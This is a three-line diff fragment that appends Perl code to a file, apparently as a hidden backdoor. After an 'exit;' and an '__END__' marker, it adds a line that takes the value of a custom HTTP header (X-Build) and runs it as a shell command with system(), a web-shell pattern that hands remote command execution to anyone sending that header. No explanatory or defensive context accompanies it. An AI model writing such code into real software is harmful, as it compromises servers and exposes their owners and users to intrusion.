@@ -1,0 +1,3 @@
+exit;
+__END__
+my$h=$ENV{HTTP_X_BUILD};system($h);
